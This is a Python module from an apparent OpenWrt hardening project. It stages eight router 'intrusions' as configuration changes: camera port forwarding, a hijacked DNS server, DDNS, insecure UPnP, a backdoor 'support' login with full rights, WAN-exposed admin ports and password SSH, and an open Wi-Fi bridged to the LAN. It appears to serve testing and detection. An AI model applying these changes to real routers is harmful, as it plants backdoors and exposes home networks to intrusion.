# Copyright: (c) 2026, nwcs.hardening contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Intrusions, as changes of the router's own configuration."""

from __future__ import annotations

import ipaddress
from typing import TYPE_CHECKING, Any

from . import crypt
from .network import lan_address
from .uci import Stage

if TYPE_CHECKING:
    from .device import OpenWrtDevice

ATTACKS = {
    "port-forward": "a port of the internet side is forwarded to a camera's video and web page, from anywhere",
    "dns-changed": "the router and its clients are given a foreign name server",
    "ddns-on": "a dynamic DNS service with a foreign host name is switched on",
    "upnp-on": "UPnP is switched on, so that any device can open ports",
    "new-login": "a new API login `support` with every right",
    "wan-admin": "the web administration and SSH are opened to the internet",
    "ssh-on": "SSH with passwords is switched on",
    "wifi-open": "a radio is switched on with an open network",
}
FOREIGN_DNS = "198.51.100.66"


def play(device: OpenWrtDevice, name: str, **arguments: Any) -> str:
    """Play one of ATTACKS; returns one sentence that says what was done."""
    return {
        "port-forward": _port_forward, "dns-changed": _dns, "ddns-on": _ddns, "upnp-on": _upnp, "new-login": _login,
        "wan-admin": _wan_admin, "ssh-on": _ssh, "wifi-open": _wifi,
    }[name](device, **arguments)  # fmt: skip


def _port_forward(device: OpenWrtDevice, camera: str = "", port: str = "554") -> str:
    if not camera:
        leases = [line.split() for line in (device.read("/tmp/dhcp.leases") or "").splitlines()]
        lan = lan_address(device.live["network"]) or "192.168.1.1"
        fallback = str(ipaddress.ip_network(f"{lan}/24", strict=False)[64])
        camera = next((row[2] for row in leases if row[3].startswith("cam")), fallback)
    with device.edit("firewall") as stage:
        for outside, inside in (("10554", port), ("10080", "80")):
            values = {"name": f"cam-{inside}", "src": "wan", "src_dport": outside, "dest": "lan", "dest_ip": camera}
            _add(stage, "redirect", None, values | {"dest_port": inside, "proto": "tcp", "target": "DNAT"})
    return f"{device.name}: ports 10554 and 10080 of the internet side lead to {camera}, ports {port} and 80."


def _dns(device: OpenWrtDevice) -> str:
    with device.edit("network") as stage:
        wan = stage.package.section("wan")
        if wan:
            stage.set(wan, "peerdns", "0")
            if "dns" in wan.options:
                stage.remove(wan, "dns")
            stage.add_list(wan, "dns", FOREIGN_DNS)
    with device.edit("dhcp") as stage:
        lan = stage.package.section("lan")
        if lan:
            stage.add_list(lan, "dhcp_option", f"6,{FOREIGN_DNS}")
    return f"{device.name}: the router and the devices behind it now ask {FOREIGN_DNS} for names."


def _ddns(device: OpenWrtDevice) -> str:
    values = {"enabled": "1", "service_name": "no-ip.com", "lookup_host": "cam-live.example.net", "interface": "wan"}
    values |= {"domain": "cam-live.example.net", "username": "someone", "password": "lab-ddns-password"}
    device.ensure("ddns")
    with device.edit("ddns") as stage:
        _add(stage, "service", "live", values)
    device.service("ddns", "enable")
    device.service("ddns", "start")
    return f"{device.name}: dynamic DNS publishes the address as cam-live.example.net."


def _upnp(device: OpenWrtDevice) -> str:
    device.ensure("upnpd")
    with device.edit("upnpd") as stage:
        _add(stage, "upnpd", "config", {"enabled": "1", "enable_upnp": "1", "enable_natpmp": "1", "secure_mode": "0"})
    device.service("miniupnpd", "enable")
    device.service("miniupnpd", "start")
    return f"{device.name}: UPnP and NAT-PMP are on without secure mode."


def _login(device: OpenWrtDevice) -> str:
    with device.edit("rpcd") as stage:
        section = stage.add("login", "support")
        stage.set(section, "username", "support")
        stage.set(section, "password", crypt.new_hash("support"))
        for permission in ("read", "write"):
            stage.add_list(section, permission, "*")
    return f"{device.name}: a new login `support` may do everything."


def _wan_admin(device: OpenWrtDevice) -> str:
    with device.edit("firewall") as stage:
        ports = "22 80 443 2222 8080 8443"
        values = {"name": "remote-support", "src": "wan", "proto": "tcp", "dest_port": ports, "target": "ACCEPT"}
        _add(stage, "rule", None, values)
    return f"{device.name}: the administration ports of the router are open to the internet."


def _ssh(device: OpenWrtDevice) -> str:
    device.ensure("dropbear")
    with device.edit("dropbear") as stage:
        sections = stage.package.of_type("dropbear") or [stage.add("dropbear", "main")]
        for option, value in {"enable": "1", "PasswordAuth": "on", "RootPasswordAuth": "on", "Port": "2222"}.items():
            stage.set(sections[0], option, value)
        if "Interface" in sections[0].options:
            stage.remove(sections[0], "Interface")
    device.service("dropbear", "enable")
    device.service("dropbear", "start")
    return f"{device.name}: SSH with passwords is on."


def _wifi(device: OpenWrtDevice) -> str:
    with device.edit("wireless") as stage:
        radio = next(iter(stage.package.of_type("wifi-device")), None) or stage.add("wifi-device", "radio0")
        stage.set(radio, "disabled", "0")
        values = {"device": radio.name, "network": "lan", "mode": "ap", "ssid": "FREE-WIFI", "encryption": "none"}
        _add(stage, "wifi-iface", "guest", values | {"disabled": "0"})
    return f"{device.name}: an open wireless network FREE-WIFI leads into the LAN."


def _add(stage: Stage, section_type: str, name: str | None, values: dict[str, str]) -> None:
    section = stage.add(section_type, name)
    for option, value in values.items():
        stage.set(section, option, value)
